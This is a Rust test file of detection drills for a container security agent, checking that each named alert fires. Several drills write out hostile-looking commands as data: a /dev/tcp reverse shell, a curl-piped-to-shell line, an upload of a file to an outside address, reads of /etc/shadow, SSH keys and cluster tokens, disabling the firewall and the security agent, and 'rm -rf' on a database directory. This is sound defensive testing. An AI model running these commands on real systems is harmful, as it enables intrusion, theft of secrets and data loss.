//! The built-in rules: each fires on what it is about.
//!
//! Left out: a module in the kernel, privileged containers, file handles, and what would change
//! the host or its images. `rules/tests` shows these by hand-written events.

use crate::container::Container;
use crate::daemon::default_pack;
use crate::drill::{self, drills};
use crate::image;
use crate::network::Network;

// Ways out.
drills! { default_pack;
    runtime_socket: "Runtime Socket Used in Container", ["-v", "/var/run/docker.sock:/var/run/docker.sock"],
        ["/usr/local/bin/drills", "unix", "/var/run/docker.sock"];
    /// Where it is mounted, and under which name, is the container's; what it is bound to is the kernel's.
    runtime_socket_under_another_name: "Runtime Socket Used in Container",
        ["-v", "/var/run/docker.sock:/opt/harmless"], ["/usr/local/bin/drills", "unix", "/opt/harmless"];
    files_through_proc: "Host Files Reached Through Proc", [], ["cat", "/proc/1/root/etc/passwd"];
    /// Opened for appending and closed again: the host's file stays as it is.
    host_file_through_mount: "Host System File Written Through Mount", ["-v", "/etc:/host/etc"],
        ["sh", "-c", ": >>/host/etc/passwd"];
    kernel_helper: "Kernel Helper Path Set in Container", [], ["sh", "-c", "echo /tmp/x >/tmp/release_agent"];
    nsenter: "Namespace of Another Process Entered in Container", [], ["nsenter", "-t", "1", "-n", "true"];
    refused_namespace: "Escape Step Refused in Container", [], ["nsenter", "-t", "1", "-n", "true"];
    refused_disk: "Escape Step Refused in Container", [], ["sh", "-c", "mknod /dev/sdz b 8 250; cat /dev/sdz"];
    mount: "Host File System Mounted in Container",
        ["--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined"],
        ["sh", "-c", "mkdir /tmp/groups; mount -t cgroup2 none /tmp/groups; umount /tmp/groups"];
    /// The disk is /dev/null under another name.
    raw_disk: "Raw Disk or Memory Opened in Container", ["--device", "/dev/null:/dev/sdz"], ["cat", "/dev/sdz"];
    bpf_program: "BPF Program Loaded in Container",
        ["--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined"], ["/usr/local/bin/drills", "bpf"];
    debugger: "Process Attached by Debugger in Container", [], ["/usr/local/bin/drills", "attach"];
    user_namespace: "User Namespace Created in Container",
        ["--security-opt", "seccomp=unconfined"], ["/usr/local/bin/drills", "user-namespace"];
    chroot: "Root Directory Changed in Container", [],
        ["sh", "-c", "mkdir -p /tmp/root/bin; cp /bin/busybox /tmp/root/bin; chroot /tmp/root /bin/busybox true"];
}

// Programs.
drills! { default_pack;
    new_program: "New Program Run in Container", [],
        ["sh", "-c", "mkdir /opt; cp /bin/busybox /opt/busybox; /opt/busybox true"];
    program_in_tmp: "Program Run From Scratch Directory", [],
        ["sh", "-c", "cp /bin/busybox /tmp/busybox; /tmp/busybox true"];
    program_in_dev_shm: "Program Run From Scratch Directory", ["--tmpfs", "/dev/shm:rw,exec"],
        ["sh", "-c", "cp /bin/busybox /dev/shm/busybox; /dev/shm/busybox true"];
    program_in_memory: "Program Run From Memory", [], ["/usr/local/bin/drills", "memfd", "/bin/busybox", "true"];
    /// The program is called apk and installs nothing.
    package: "Package Installed in Running Container", [], ["/usr/local/bin/apk", "add", "nmap"];
    download: "Program Downloaded in Container", [],
        ["sh", "-c", "httpd -p 80 -h /www; wget -O /tmp/stage2 http://127.0.0.1/index.html"];
    netcat: "Netcat Runs Program", [], ["nc", "127.0.0.1", "4444", "-e", "/bin/true"];
    miner_program: "Miner Program Started", [], ["true", "-o", "stratum+tcp://pool.invalid:3333"];
}

// Files.
drills! { default_pack;
    password_file: "Password File Read in Container", [], ["cat", "/etc/shadow"];
    private_key: "Credential File Read by Tool", [], ["cat", "/home/user/.ssh/id_rsa"];
    account_token: "Service Account Token Read by Tool", [],
        ["cat", "/run/secrets/kubernetes.io/serviceaccount/token"];
    environment: "Environment of Other Process Read", [], ["cat", "/proc/1/environ"];
    history_removed: "Traces Removed", [], ["sh", "-c", "echo ls >/root/.ash_history; rm /root/.ash_history"];
    log_emptied: "Traces Removed", [], ["sh", "-c", "echo x >/var/log/auth.log; : >/var/log/auth.log"];
    preload_file: "Library Preload Set Up", [], ["sh", "-c", "echo /tmp/x.so >/etc/ld.so.preload"];
    preload_variable: "Library Preload Set Up", [], ["env", "LD_PRELOAD=/tmp/x.so", "true"];
    setuid: "Setuid Bit Set in Container", [], ["sh", "-c", "cp /bin/busybox /tmp/busybox; chmod 4755 /tmp/busybox"];
    system_program: "System Program Changed in Container", [], ["cp", "/bin/busybox", "/usr/local/bin/ls"];
    cron_job: "Start-up Job Written in Container", [], ["sh", "-c", "mkdir /etc/cron.d; echo x >/etc/cron.d/job"];
    account_file: "Account File Changed in Container", [], ["sh", "-c", "echo 'x::0:0::/:/bin/sh' >>/etc/passwd"];
}

// Connections.
drills! { default_pack;
    /// There is no network: the attempt is what counts.
    listed_address: "Listed Address Contacted", [], ["/usr/local/bin/drills", "connect", "198.51.100.66", "443"];
}

// Deployment.
drills! { default_pack;
    powerful_container: "Powerful Container Started", ["--cap-add", "SYS_PTRACE"], ["true"];
    host_numbers: "Container Started in Host Namespace", ["--pid", "host"], ["true"];
    host_directory: "Host Directory Mounted in Container", ["-v", "/etc:/host/etc:ro"], ["true"];
    image_build: "Image Built or Changed on Host", [], ["/usr/local/bin/buildah", "bud", "."];
    cluster_client: "Container Client Used in Container", [], ["/usr/local/bin/kubectl", "get", "pods"];
    cluster_change: "Cluster Changed From Container", [], ["/usr/local/bin/kubectl", "create", "cronjob", "x"];
    cluster_role: "Cluster Role Granted by Client", [],
        ["/usr/local/bin/kubectl", "create", "clusterrolebinding", "x"];
    static_pod: "Static Pod Manifest Written", [],
        ["sh", "-c", "mkdir /etc/kubernetes/manifests; echo x >/etc/kubernetes/manifests/x.yaml"];
    control_port: "Control Port of Node Contacted by Tool", [],
        ["/usr/local/bin/curl", "connect", "10.255.0.7", "2375"];
}

// Tampering. What is stopped and changed is in the container, and has the name only.
drills! { default_pack;
    agent_killed: "Security Agent Killed", [], ["timeout", "-s", "KILL", "1", "/usr/local/bin/falco", "wait"];
    agent_told_to_end: "Security Agent Told to End", [], ["killall", "falco"];
    service_stopped: "Security Service Stopped", [], ["/usr/local/bin/systemctl", "stop", "auditd"];
    agent_file: "Security Agent File Changed", [], ["sh", "-c", "mkdir /etc/tidewatch; echo x >/etc/tidewatch/x.yaml"];
    firewall: "Firewall Switched Off", [], ["/usr/local/bin/iptables", "-F"];
    access_control: "Access Control Switched Off", [], ["/usr/local/bin/setenforce", "0"];
    log_cleared: "System Log Cleared", [], ["/usr/local/bin/journalctl", "--vacuum-time=1s"];
    no_history: "Shell History Switched Off", [], ["env", "HISTFILE=/dev/null", "sh", "-c", "true"];
}

// Identity.
drills! { default_pack;
    root_taken: "Root Taken in Container", [], ["/usr/local/bin/perl", "become-root"];
    known_exploit: "Known Local Exploit Tried", [],
        ["/usr/local/bin/drills", "call-itself", "", "/usr/local/bin/pkexec"];
    account_switched: "Account Switched Below Server", [],
        ["/usr/local/bin/nginx", "spawn", "/usr/local/bin/sudo", "-l"];
    cluster_keys: "Cluster Keys Read", [], ["cat", "/etc/kubernetes/pki/ca.key"];
    api_server: "API Server Asked by Tool", [],
        ["env", "KUBERNETES_SERVICE_HOST=10.96.0.1", "/usr/local/bin/curl", "connect", "10.96.0.1", "443"];
    metadata: "Cloud Metadata Asked by Tool", [], ["/usr/local/bin/curl", "connect", "169.254.169.254", "80"];
    secrets_searched: "Secrets Searched For", [], ["find", "/home", "-name", "id_rsa"];
    process_memory: "Process Memory Opened in Container", [], ["head", "-c", "0", "/proc/1/mem"];
    password_guessing: "Password Guessing Tool Started", [], ["/usr/local/bin/hydra", "-l", "root"];
    account_created: "Account Created in Container", [], ["/usr/local/bin/useradd", "eve"];
    login_configuration: "Login Configuration Changed in Container", [], ["sh", "-c", "echo x >>/etc/pam.d/sshd"];
}

// The kernel's doors, and what lasts.
drills! { default_pack;
    runtime_program: "Runtime Program Opened for Writing", [], ["sh", "-c", ": >>/proc/1/exe"];
    directory_by_descriptor: "Working Directory Taken From Descriptor", [],
        ["/usr/local/bin/drills", "enter-descriptor", "/opt"];
    /// Opened for appending and closed again: the setting stays as it is.
    kernel_setting: "Kernel Setting Changed in Container", ["--security-opt", "systempaths=unconfined"],
        ["sh", "-c", ": >>/proc/sys/vm/swappiness"];
    fault_handler: "Fault Handler Installed in Container", ["--security-opt", "seccomp=unconfined"],
        ["/usr/local/bin/drills", "fault-handler"];
    ring: "io_uring Used by New Program", ["--security-opt", "seccomp=unconfined"],
        ["sh", "-c", "cp /usr/local/bin/drills /opt/x; /opt/x ring"];
    profile: "Shell Profile Changed in Container", [], ["sh", "-c", "echo x >>/root/.bashrc"];
    upload: "Script Written to Upload Folder", [], ["/usr/local/bin/php", "create", "/www/uploads/a.php"];
    capability: "File Capability Set in Container", [], ["/usr/local/bin/setcap", "cap_setuid+ep", "/bin/busybox"];
    device: "Raw Disk or Memory Opened in Container", [], ["mknod", "/tmp/d", "b", "8", "0"];
    setuid_shell: "Shell Keeps Setuid Rights", [], ["sh", "-p", "/dev/null"];
    library: "Library Put in System Place", [], ["cp", "/lib/libc.so.6", "/lib/libx.so"];
}

// What hides.
drills! { default_pack;
    kernel_thread: "Kernel Thread Name Borrowed", [],
        ["/usr/local/bin/drills", "call-itself", "[kworker/0:0]", "/usr/local/bin/drills"];
    service_name: "System Service Name in Wrong Place", [],
        ["sh", "-c", "cp /usr/local/bin/drills /root/sshd; /root/sshd"];
    hidden_place: "Program Run From Hidden Place", [],
        ["sh", "-c", "mkdir /etc/.x; cp /usr/local/bin/drills /etc/.x/a; /etc/.x/a"];
    unseen_name: "Program Name Cannot Be Seen", [], ["sh", "-c", "cp /usr/local/bin/drills '/opt/a '; '/opt/a '"];
    own_file: "Program Removed Its Own File", [], ["sh", "-c", "cp /usr/local/bin/drills /opt/x; /opt/x remove /opt/x"];
    reverse_shell_command: "Reverse Shell in Command Line", [],
        ["sh", "-c", "true 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'"];
    network_script: "Network Script Piped Into Shell", [], ["sh", "-c", "true 'curl http://192.0.2.1/x | sh'"];
    look_around: "Look Around Below Server", [], ["/usr/local/bin/nginx", "spawn", "/usr/local/bin/lscpu"];
}

// Tools. Nothing is scanned, sent or destroyed: the programs have the names only.
drills! { default_pack;
    scanner: "Network Scanner Started", [], ["/usr/local/bin/nmap", "10.255.0.0/16"];
    attack_tool: "Attack Tool Started", [], ["/usr/local/bin/pspy64"];
    tunnel: "Tunnel Program Started", [], ["/usr/local/bin/chisel", "client", "192.0.2.1:443"];
    network_tool: "Network Tool Started in Container", [], ["/usr/local/bin/tcpdump", "-i", "eth0"];
    packet_socket: "Packet Socket Opened in Container", [], ["/usr/local/bin/sniff", "packet"];
    back_door: "Port Opened by New Program", [], ["sh", "-c", "cp /usr/local/bin/drills /opt/x; /opt/x listen 4444"];
    login_server: "Remote Login Server Started in Container", [], ["/usr/local/bin/dropbear", "-p", "2222"];
    other_machine: "Login From Container to Other Machine", [], ["/usr/local/bin/ssh", "root@192.0.2.1"];
    data_sent: "Data Sent Out by Tool", [], ["/usr/local/bin/curl", "-T", "/etc/hostname", "http://192.0.2.1/"];
    bandwidth: "Bandwidth Sold by Program", [], ["/usr/local/bin/traffmonetizer", "start"];
    denial: "Denial of Service Tool Started", [], ["/usr/local/bin/slowhttptest", "-u", "http://192.0.2.1/"];
    destruction: "Data Destroyed", [], ["rm", "-rf", "/var/lib/mysql"];
    ransom_note: "Ransom Note or Locked File Written", [], ["sh", "-c", "echo x >/opt/README_TO_DECRYPT.txt"];
    backup: "Backup or Snapshot Deleted", [], ["/usr/local/bin/velero", "backup", "delete", "x"];
}

#[test]
fn mining_protocol() {
    let Some(daemon) = default_pack() else { return };
    let network = Network::private();
    let pool = network.listener("3333");
    let miner = Container::idle(image::base(), &["--network", &network.name]);
    let hello = r#"{"id":1,"method":"mining.subscribe","params":[]}"#;
    miner.exec(&["/usr/local/bin/drills", "connect", &pool.address(), "3333", hello]);
    daemon.alert("Mining Protocol Spoken", &miner.name);
}

#[test]
fn reverse_shell() {
    drill::reverse_shell(default_pack(), "Shell Streams Tied to Connection");
}

#[test]
fn interactive_shell() {
    drill::terminal_shell(default_pack(), "Interactive Shell in Container");
}

#[test]
fn shell_below_a_web_server() {
    drill::shell_below_web_server(default_pack(), "Shell Started by Server Program");
}

/// An alert says what happened, why it matters and what to do, and who did it.
#[test]
fn an_alert_explains_itself() {
    let Some(daemon) = default_pack() else { return };
    let container = Container::idle(image::base(), &[]);
    container.exec(&["sh", "-c", "cat /etc/shadow; true"]);
    let alert = daemon.alert("Password File Read in Container", &container.name);
    let extra = &alert["tidewatch"];
    for key in ["message", "why", "advice"] {
        assert!(extra[key].as_str().is_some_and(|text| !text.is_empty()), "{key} is missing: {alert}");
    }
    assert_eq!(alert["output_fields"]["proc.pname"], "sh");
    assert_eq!(alert["output_fields"]["container.image.repository"], image::base());
    assert!(extra["lineage"].as_array().is_some_and(|lineage| !lineage.is_empty()), "{alert}");
}
